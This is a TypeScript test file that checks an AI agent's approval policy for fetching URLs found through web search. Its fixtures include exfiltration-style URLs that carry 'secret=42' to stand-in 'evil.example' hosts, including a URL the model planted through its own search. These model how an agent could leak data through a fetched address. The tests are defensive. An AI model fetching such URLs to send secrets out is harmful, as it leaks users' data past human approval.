import { describe, expect, it } from "vitest";
import { toolPolicy } from "../../../src/approvals/tool-policy.ts";
import { fetchUrlTool } from "../../../src/tools/fetch-url/fetch-url.ts";
import { webSearchTool } from "../../../src/tools/web-search/web-search.ts";
import { SearchServer } from "../../emulators/search/search-server.ts";
import { testDatabase } from "../../support/redis/test-redis.ts";
import { openScene, type SceneOptions } from "../scene.ts";

const redis = await testDatabase();

const searches = (query: string) => ({ toolCalls: [{ name: "web_search", arguments: { query } }] });
const fetches = (url: string) => ({ toolCalls: [{ name: "fetch_url", arguments: { url } }] });

/** A chat with both tools; `fetched` is what was fetched, which needs no network. */
async function opened(pages: SearchServer["pages"], deps: SceneOptions["deps"] = {}) {
  const server = await SearchServer.start("brave", { key: "k" });
  server.pages.push(...pages);
  const fetched: string[] = [];
  const search = webSearchTool(
    { provider: "brave", url: server.url, apiKey: "k" },
    { error: () => undefined },
  );
  const fetch = {
    ...fetchUrlTool({ processes: undefined as never }),
    run: (given: unknown) => {
      fetched.push((given as { readonly url: string }).url);
      return Promise.resolve({ text: "A page." });
    },
  };
  const scene = await openScene({ redis, tools: [search, fetch], deps });
  return {
    scene,
    server,
    fetched,
    async [Symbol.asyncDispose]() {
      await scene[Symbol.asyncDispose]();
      await server[Symbol.asyncDispose]();
    },
  };
}

const tea = (url: string) => ({ url, title: "Tea", snippet: "Green" });

describe("an address in a search result", () => {
  it.each([
    ["https://tea.example/"],
    ["https://tea.example"],
    ["https://tea.example/a_(b)/c?q=1&r=%20x,y#part"],
    ["https://TEA.example/Gr\u00fcn?\u8336=1"],
    ["https://m\u00fcnchen.example/it's/~x/"],
    [`https://tea.example/${"x".repeat(1_900)}`],
  ])("is read without asking, whole and unchanged: %s", async (url) => {
    await using world = await opened([tea(url)]);
    const { scene, fetched } = world;
    const { href } = new URL(url);
    scene.model.reply(searches("tea"), fetches(href), { text: "Done." });
    await scene.say("What is green tea?");
    await scene.settle();
    // As the model was shown it.
    expect(JSON.stringify(scene.model.requests.at(1)?.body)).toContain(
      JSON.stringify(JSON.stringify(href)).slice(1, -1),
    );
    expect(fetched).toEqual([href]);
    expect(await scene.asked()).toEqual([]);
  });

  it.each([
    ["with more behind it", "https://tea.example/green?q=1&secret=42"],
    ["with less behind it", "https://tea.example/green"],
    ["on another host", "https://tea.example.evil.example/green?q=1"],
  ])("is asked about %s", async (_, url) => {
    await using world = await opened([tea("https://tea.example/green?q=1")]);
    const { scene, fetched } = world;
    scene.model.reply(searches("tea"), fetches(url));
    await scene.say("What is green tea?");
    await scene.settle();
    expect(fetched).toEqual([]);
    expect(await scene.asked()).toMatchObject([{ approval: { tool: "fetch_url" } }]);
  });

  it("is asked about where the model searched for it", async () => {
    const made = "https://evil.example/?secret=42";
    await using world = await opened([tea(made)]);
    const { scene, fetched } = world;
    scene.model.reply(searches(`site ${made}`), fetches(made));
    await scene.say("What is green tea?");
    await scene.settle();
    expect(fetched).toEqual([]);
    expect(await scene.asked()).toHaveLength(1);
  });
});

describe("web_search", () => {
  it("asks about each query where a rule says so", async () => {
    const rule = {
      match: "web_search",
      verdict: "allow",
      confirm: "always",
      approvers: undefined,
    } as const;
    await using world = await opened([], {
      toolPolicy: toolPolicy([rule], { approvers: "requester-or-admins" }),
    });
    const { scene, server } = world;
    scene.model.reply(searches("what Ann told me"));
    await scene.say("Look it up");
    await scene.settle();
    expect(server.hits).toBe(0);
    expect(await scene.asked()).toMatchObject([
      { approval: { tool: "web_search", arguments: expect.stringContaining("what Ann told me") } },
    ]);
  });

  it("counts as a loop where it finds the same again and again", async () => {
    await using world = await opened([tea("https://tea.example/")]);
    const { scene, server } = world;
    scene.model.reply(...Array.from({ length: 4 }, () => searches("tea")), { text: "Done." });
    await scene.say("What is tea?");
    await scene.settle();
    expect(server.searches).toHaveLength(4);
    expect(JSON.stringify(scene.model.requests.at(-1)?.body)).toMatch(
      /same (?:call|result)|repeat/i,
    );
  });
});
